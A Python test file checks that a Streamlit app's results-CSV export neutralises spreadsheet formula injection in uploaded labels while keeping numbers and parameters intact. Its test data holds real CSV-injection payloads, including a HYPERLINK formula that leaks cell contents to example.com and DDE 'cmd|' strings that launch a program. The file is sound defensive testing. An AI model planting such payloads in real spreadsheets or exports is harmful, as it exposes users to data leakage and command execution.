"""The results CSV is safe to open in a spreadsheet, keeps its numbers, and carries every parameter.

A spreadsheet runs a cell that starts with ``= + - @``, a tab or a carriage return as a formula (OWASP "CSV
injection"); candidate labels come from uploaded files, so the export prefixes such text cells with a single quote.
Checked on ``ui.widgets.export`` directly and on the bytes behind the pages' real "Download results (CSV)" buttons,
which Streamlit builds only on click (a deferred callable): the test records the callable when the page registers
it and calls it, as the server does when the button is clicked.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Callable

import numpy as np
import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager

import dpcore
from dpcore.ingest.csv_reader import read_csv_bytes
from dpcore.scoring.rules import score_counts
from ui.shell.memo import Memo
from ui.shell.runs import MechanismResult, Settings, TrialPlan, run_mechanism
from ui.widgets.export import csv_with_parameters, neutralise, results_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: Columns holding text; every other column must hold numbers (or true/false).
TEXT_COLUMNS = {"mechanism", "mechanism_label", "candidate", "source", "random_stream"}
PARAMETER_COLUMNS = {"source", "epsilon", "sensitivity", "monotone", "trials_requested", "trials_simulated", "seed"}

HOSTILE_LABELS = (
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
    "-5",
    "plain label",
    'a\r=HYPERLINK("http://example.com")',  # a CR inside: unquoted, it would split the row before the '='
    "b\n@SUM(1+1)",
)


def read_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def assert_safe(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """Every text cell that would start a formula is neutralised; every other cell is a number or a flag."""
    header, rows = read_rows(data)
    assert rows, "the export is empty"
    assert not any(name.startswith(DANGEROUS) for name in header)
    for row in rows:
        for column, cell in row.items():
            if column in TEXT_COLUMNS:
                assert not cell.startswith(DANGEROUS), f"{column} = {cell!r} would run as a formula"
            elif cell not in {"True", "False"}:
                value = float(cell)  # numbers stay numbers (a negative score is written as -3.5, not '-3.5)
                assert math.isfinite(value) or column == "exact_log_probability", (column, cell)
    return header, rows


def unquote(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(DANGEROUS) else cell


@pytest.mark.parametrize("start", DANGEROUS)
def test_neutralise_prefixes_formula_starts(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-3.5, -1, 0, 2.5e-300, np.float64(-0.25), np.int64(-7), True, None])
def test_neutralise_leaves_non_text_alone(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("value", ["plain", "'=already quoted", " =leading space is text", "", "1+1"])
def test_neutralise_leaves_harmless_text_alone(value):
    assert neutralise(value) == value


def _result(mechanism: str, scores: np.ndarray, settings: Settings, trials: int) -> MechanismResult:
    return run_mechanism(Memo(max_bytes=1 << 20), scores, settings, mechanism, trials=trials)


def test_results_csv_neutralises_labels_and_keeps_numbers_and_parameters():
    scores = np.array([5.0, 4.0, -3.5, 2.0, 1.0, 0.0, -1.0, 3.0, 0.5, -0.5])  # negative scores must stay numbers
    settings = Settings(
        epsilon=0.5, sensitivity=1.0, monotonic=False, mechanisms=tuple(dpcore.MAIN_MECHANISMS), trials=1_000, seed=4242
    )
    results = [_result(m, scores, settings, 1_000) for m in settings.mechanisms]
    data = results_csv(
        labels=HOSTILE_LABELS,
        scores=scores,
        results=results,
        settings=settings,
        plan=TrialPlan(requested=1_000, run=1_000, full_run_reasonable=True),
        source="=cmd|' /C calc'!A0 (a hostile source name)",
    )
    header, rows = assert_safe(data)
    assert PARAMETER_COLUMNS <= set(header)
    assert len(rows) == len(HOSTILE_LABELS) * len(results)
    for row, label in zip(rows, HOSTILE_LABELS * len(results), strict=True):
        expected = "'" + label if label.startswith(DANGEROUS) else label
        assert row["candidate"] == expected
        assert row["source"].startswith("'=")
        assert int(row["seed"]) == 4242 and float(row["epsilon"]) == 0.5 and row["monotone"] == "False"
        assert int(row["trials_requested"]) == 1_000 == int(row["trials_simulated"])
    # Numbers round-trip exactly (shortest repr), including the negative scores.
    np.testing.assert_array_equal([float(r["score"]) for r in rows[: len(scores)]], scores)
    np.testing.assert_array_equal(
        [float(r["exact_probability"]) for r in rows[: len(scores)]], results[0].probabilities
    )
    assert [int(r["simulated_count"]) for r in rows[: len(scores)]] == [int(c) for c in results[0].counts]


def test_parameter_csv_of_the_other_pages_is_safe_too():
    """``csv_with_parameters`` (the CSV of every other page) neutralises text, keeps numbers, quotes CR/LF."""
    frame = pd.DataFrame({"label": list(HOSTILE_LABELS), "value": np.linspace(-1.5, 2.5, len(HOSTILE_LABELS))})
    data = csv_with_parameters(frame, {"source": "@upload.csv", "epsilon": 0.25, "seed": 2**32 - 1})
    header, rows = read_rows(data)
    assert header == ["label", "value", "source", "epsilon", "seed"]
    assert len(rows) == len(HOSTILE_LABELS), "a CR or LF inside a cell split a row"
    for row, label, value in zip(rows, HOSTILE_LABELS, frame["value"], strict=True):
        assert unquote(row["label"]) == label and not row["label"].startswith(DANGEROUS)
        assert float(row["value"]) == value
        assert row["source"] == "'@upload.csv" and float(row["epsilon"]) == 0.25 and int(row["seed"]) == 2**32 - 1


# ---------------------------------------------------------------------------------------------------------------
# The pages' real download buttons


@pytest.fixture
def deferred_downloads(monkeypatch) -> dict[str, Callable[[], object]]:
    """file id -> the callable a page registered for a deferred download button."""
    recorded: dict[str, Callable[[], object]] = {}
    original = MediaFileManager.add_deferred

    def record(self, data_callable, *args, **kwargs):  # noqa: ANN001, ANN202
        file_id = original(self, data_callable, *args, **kwargs)
        recorded[file_id] = data_callable
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    return recorded


def csv_download(at, recorded: dict[str, Callable[[], object]]) -> bytes:  # noqa: ANN001
    """What a click on "Download results (CSV)" serves."""
    (button,) = [b for b in at.get("download_button") if b.proto.label == "Download results (CSV)"]
    data = recorded[button.proto.deferred_file_id]()
    assert isinstance(data, bytes) and data, "the CSV download produced nothing"
    return data


def test_explorer_download_is_safe_and_carries_the_parameters(open_page, deferred_downloads):
    at = open_page("pages/1_Explorer.py", scenario="book_poll", epsilon="0.693", trials="1000", seed="987654")
    assert not at.exception
    header, rows = assert_safe(csv_download(at, deferred_downloads))
    assert PARAMETER_COLUMNS <= set(header)
    scenario = dpcore.SCENARIOS["book_poll"]
    assert len(rows) == len(scenario.labels) * len(dpcore.MAIN_MECHANISMS)
    assert {int(r["seed"]) for r in rows} == {987654}
    assert {float(r["epsilon"]) for r in rows} == {0.693}
    assert {int(r["trials_requested"]) for r in rows} == {1_000}
    assert all("scenario=book_poll" in r["source"] for r in rows)


def test_your_data_download_neutralises_uploaded_labels(open_page, deferred_downloads):
    counts = [9, 8, 7, 6, 5, 4, 3, 2, 1, 1]
    lines = ["label,count"] + [
        '"{}",{}'.format(label.replace('"', '""'), count) for label, count in zip(HOSTILE_LABELS, counts, strict=True)
    ]
    content = ("\n".join(lines) + "\n").encode()
    at = open_page("pages/2_Your_data.py", trials="100", seed="31337")
    at.file_uploader(key="yd_upload").upload("=evil.csv", content, "text/csv")
    at.run()
    at.selectbox(key="yd_kind").set_value("counts").run()
    at.selectbox(key="yd_label_column").set_value("label").run()
    at.multiselect(key="yd_columns").set_value(["count"]).run()
    assert not at.exception and not at.error, [e.value for e in at.error]

    scored = score_counts(read_csv_bytes(content), label_column="label", count_column="count")
    assert sum(label.startswith(DANGEROUS) for label in scored.labels) >= 5, "the upload must reach the export"
    header, rows = assert_safe(csv_download(at, deferred_downloads))
    assert PARAMETER_COLUMNS <= set(header)
    assert len(rows) == len(scored.labels) * len(dpcore.MAIN_MECHANISMS)
    first = rows[: len(scored.labels)]
    assert [unquote(r["candidate"]) for r in first] == list(scored.labels)
    assert [float(r["score"]) for r in first] == list(scored.scores)
    assert {int(r["seed"]) for r in rows} == {31337}
    assert {int(r["trials_requested"]) for r in rows} == {100}
    assert all(r["source"].startswith("Your data") for r in rows)
